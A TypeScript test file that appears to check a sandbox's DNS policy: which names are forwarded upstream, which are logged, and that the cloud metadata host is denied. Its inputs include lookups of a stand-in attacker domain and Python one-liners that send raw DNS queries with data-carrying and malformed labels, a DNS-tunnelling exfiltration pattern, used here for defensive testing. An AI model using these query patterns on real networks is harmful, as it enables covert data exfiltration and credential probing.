/** What is asked upstream of the names that a run looks up, and what is on record of it. */
import { describe, expect, test } from 'vitest';
import { needs } from '../helpers/needs.js';
import { sh } from './harness.js';
import { finish, policyOf, port, start } from './running.js';

const withCurl = needs('curl');

describe('names', () => {
  withCurl.test('NP01 an unknown name is not sent upstream; an allowed one that is missing looks missing', async () => {
    const run = await start(sh(`getent hosts secret.evil.test; curl -sS -m 300 http://typo.test:${port}/ 2>&1; getent hosts metadata.google.internal || echo none`), await policyOf({ allow: ['*.evil2.test', 'typo.test:443'] }), { enabled: false });
    const { out, log } = await finish(run);

    expect(out).toMatch(/198\.19\.0\.1\s+secret\.evil\.test/);
    expect(out).toContain('Could not resolve host: typo.test');
    expect(out).toContain('none');
    expect(log.filter(({ kind }) => kind === 'dns')).toMatchObject([
      { object: { name: 'secret.evil.test' }, rule: 'net.lookup', verdict: 'allow', detail: { why: expect.stringContaining('nothing was asked upstream') as string } },
      { object: { name: 'typo.test', type: 1 }, rule: 'test.allow', verdict: 'allow' },
      { object: { name: 'metadata.google.internal' }, rule: 'net.metadata', verdict: 'deny' },
    ]);
  });

  test('NP01 what is carried out in labels below an allowed domain is on record, name by name; nothing else leaves', async () => {
    const code = `/usr/bin/python3 -c '
import socket,struct
def ask(name,type):
  q=struct.pack(">HHHHHH",9,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l for l in name.split(b"/"))+b"\\0"+struct.pack(">HH",type,1)
  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(("8.8.8.8",53)); s.send(q); s.recv(900)
for i in range(20):
  ask(b"a"*60+b"/"+b"b"*60+b"/%d/x/test" % i, (1,16)[i%2]); ask(b"c"*60+b"/%d/other/example" % i, 16); ask(b"n\\x00ul/x/test",1); ask(b"do\\x2et/x/test",1)
ask(b"a"*60+b"/"+b"b"*60+b"/0/x/test",1)'`;
    const asked: string[] = [];
    const run = await start(sh(code), await policyOf({ allow: ['*.x.test'] }), { enabled: false }, (name) => void asked.push(name));
    const { log } = await finish(run);

    const names = Array.from({ length: 20 }, (_, i) => `${'a'.repeat(60)}.${'b'.repeat(60)}.${i}.x.test`);
    const named = (isAsked: boolean): unknown[] => log.filter(({ kind, verdict, object }) => kind === 'dns' && verdict === 'allow' && (object['type'] !== undefined) === isAsked).map(({ object }) => object['name']);
    expect(named(true)).toEqual(names);
    const odd = ['n\\000ul.x.test', 'do\\046t.x.test'];
    expect(named(false)).toEqual([`${'c'.repeat(60)}.0.other.example`, ...odd, ...Array.from({ length: 19 }, (_, i) => `${'c'.repeat(60)}.${i + 1}.other.example`)]);
    expect(asked.every((name) => names.includes(name))).toBe(true);
    expect(new Set(asked).size).toBe(10);
  });
});

test('TXT, MX and SRV of an allowed name come from upstream, of others nothing does', async () => {
  const dig = (name: string, type: number): string => `/usr/bin/python3 -c '
import socket,struct
q=struct.pack(">HHHHHH",9,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in "${name}".split("."))+b"\\0"+struct.pack(">HH",${type},1)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(("8.8.8.8",53)); s.send(q); print(s.recv(900))'`;
  const run = await start(sh(`${dig('a.test', 16)}; ${dig('b.test', 16)}; ${dig('a.test', 15)}; ${dig('a.test', 33)}`), await policyOf({ allow: ['a.test'] }), { enabled: false });
  const { out } = await finish(run);

  expect(out.match(/hello text/g)).toHaveLength(1);
  expect(out).toMatch(/mail.*\n.*srv/s);
});
